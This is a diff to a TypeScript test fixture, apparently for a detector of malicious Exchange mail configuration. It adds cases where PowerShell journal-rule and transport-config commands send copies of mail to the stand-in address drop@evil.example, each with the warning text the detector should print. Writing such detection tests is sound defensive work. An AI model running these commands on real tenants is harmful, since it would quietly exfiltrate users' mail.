@@ -253,4 +253,35 @@ export const planted: readonly Planted[] = [
     ],
     says: [/Default/u, /drop@evil\.example/u],
   },
+  {
+    what: 'a journal of all mail',
+    by: [['New-JournalRule', { Name: 'Archive 2', JournalEmailAddress: 'drop@evil.example', Enabled: true }]],
+    says: [/journal rule Archive 2/u, /copies all mail whole to drop@evil\.example/u],
+  },
+  {
+    what: 'a journal of one person, switched on',
+    by: [
+      [
+        'New-JournalRule',
+        {
+          Name: 'Archive 2',
+          Recipient: 'ana@contoso.com',
+          Scope: 'External',
+          JournalEmailAddress: 'drop@evil.example',
+        },
+      ],
+      ['Enable-JournalRule', { Identity: 'Archive 2', Confirm: false }],
+    ],
+    says: [/journal rule Archive 2/u, /copies mail of ana@contoso\.com whole to drop@evil\.example/u],
+  },
+  {
+    what: 'another target of an accepted journal',
+    by: [['Set-JournalRule', { Identity: 'Archive', JournalEmailAddress: 'drop@evil.example' }]],
+    says: [/journal rule Archive/u, /drop@evil\.example/u],
+  },
+  {
+    what: 'an address for journal reports that cannot be delivered',
+    by: [['Set-TransportConfig', { JournalingReportNdrTo: 'drop@evil.example' }]],
+    says: [/JournalingReportNdrTo/u, /journal reports that cannot be delivered to drop@evil\.example/u],
+  },
 ];
